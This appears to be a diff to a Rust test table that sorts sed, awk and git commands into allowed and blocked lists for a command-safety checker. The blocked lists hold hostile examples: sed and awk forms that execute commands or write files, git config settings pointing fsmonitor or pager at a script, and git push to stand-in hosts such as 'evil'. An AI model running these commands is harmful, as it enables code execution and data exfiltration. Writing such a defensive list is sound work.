@@ -271,10 +271,11 @@ static SLIPS: &[(&str, &[&str], &[&str])] = &[
         &[
             "sed -n 1,5p x",
             "sed 's/a/b/g' x y",
-            "sed -n -e '/a/p' -e 1d x",
-            "sed -E 's|a|b|' x",
+            "sed -n '/a/,$p' x",
+            "sed -E 's|a|b|;1d' x",
         ],
         &[
+            "sed -n -e '/a/p' -e 1d x",
             "sed -n '1e id' x",
             "sed 'w y' x",
             "sed 's/a/id/e' x",
@@ -299,7 +300,11 @@ static SLIPS: &[(&str, &[&str], &[&str])] = &[
     ),
     (
         "awk",
-        &["awk '{print $1}' x", "awk -F: '$1 == 2' x"],
+        &[
+            "awk '{print $1}' x",
+            "awk -F: '$1 == 2' x",
+            "awk -F'|' '/a/ {print $2}' x",
+        ],
         &[
             "awk '{print > \"y\"}' x",
             "awk '{system($0)}' x",
@@ -365,6 +370,8 @@ static SLIPS: &[(&str, &[&str], &[&str])] = &[
             "git config --list",
         ],
         &[
+            "git config edit",
+            "git config --unset x.y",
             "git config core.fsmonitor ./x",
             "git config --global core.pager ./x",
             "git config --add alias.x y",
@@ -379,9 +386,9 @@ static SLIPS: &[(&str, &[&str], &[&str])] = &[
             "git push",
             "git push origin main",
             "git push -u origin main",
-            "git push origin a:b",
         ],
         &[
+            "git push origin a:b",
             "git push https://evil/x main",
             "git push git@evil:x main",
             "git push evil:x main",
